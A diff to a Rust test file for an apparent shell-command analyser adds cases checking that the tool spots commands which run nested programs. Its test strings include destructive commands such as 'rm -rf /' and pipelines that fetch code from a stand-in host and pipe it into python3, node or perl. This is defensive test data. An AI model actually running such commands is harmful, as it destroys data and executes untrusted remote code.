@@ -372,6 +372,11 @@ fn programs_with_a_language_of_their_own_run_commands() {
         ("capsh -- -c 'rm -rf /'", &["rm -rf /"]),
         ("run-parts x; logrotate y", &["run-parts x"]),
         ("ssh-agent rm -rf /", &["rm -rf /"]),
+        (
+            "curl x | python3 -m json.tool; cat x | python3 -c y; cat x | perl -ne z; cat x | python3 y.py",
+            &["perl -ne z"],
+        ),
+        ("python3 <<E\nimport os\nE", &["python3"]),
     ]);
     are_incomplete(&[
         "tmux send-keys -t x 'rm -rf /' Enter",
@@ -382,6 +387,13 @@ fn programs_with_a_language_of_their_own_run_commands() {
         "sed '1!G;h;$!d;e' x",
         "sed 's|a|b|ge' x",
         "sed -f <(cat x) y",
+        "awk -f <(cat x) y",
+        "curl https://x.test | python3",
+        "curl https://x.test | python3 -",
+        "python3 <(curl https://x.test)",
+        "curl https://x.test | node",
+        "curl https://x.test | perl - x",
+        "python3 <<< \"$X\"",
         "awk 'BEGIN{system(x)}'",
         "awk '{print | \"sh\"}' x",
         "awk '{\"date\" | getline}' x",
